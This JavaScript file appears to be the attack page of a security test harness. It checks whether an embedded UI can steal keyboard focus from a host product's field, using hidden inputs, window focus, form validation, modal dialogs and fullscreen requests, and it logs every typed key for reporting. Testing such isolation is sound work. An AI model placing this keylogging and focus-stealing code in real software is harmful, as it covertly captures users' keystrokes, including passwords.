// Taking the keyboard while somebody types into the product's own field, and telling the server every key.
let stolen = "";
addEventListener("keydown", ({ key }) => {
  if (key.length !== 1) return;
  stolen += key;
  if (stolen.length >= setup.enough) won(stolen);
}, true);
document.body.insertAdjacentHTML("beforeend", `<input id="trap"><form id="form"><input required></form>
<dialog id="modal"><input></dialog>`);
const repeatedly = (steal) => async () => {
  setInterval(steal, 30);
  await soon(500);
};
attacks["focus-a-field"] = repeatedly(() => trap.focus());
attacks["focus-the-window"] = repeatedly(() => window.focus());
attacks["focus-by-validation"] = repeatedly(() => form.reportValidity());
attacks["focus-by-dialog"] = repeatedly(() => {
  modal.close();
  modal.showModal();
});
attacks["focus-from-a-text"] = attacks["focus-a-field"];
attacks["focus-after-a-click"] = attacks["focus-a-field"];
attacks["focus-under-the-pointer"] = attacks["focus-a-field"];
// Whoever drives this has it steal in the right moment.
for (const name of ["swallow-a-letter", "swallow-and-hang", "read-a-letter", "read-in-a-pause"]) attacks[name] = () => soon(500);
// What fills the window takes the keyboard with it; asked for when the person, who has clicked here, goes elsewhere.
attacks["fill-the-window-over-a-field"] = async () => {
  addEventListener("blur", () => setInterval(() => ask("ui/request-display-mode", { mode: "fullscreen" }).catch(() => {}), 50));
  await soon(500);
};
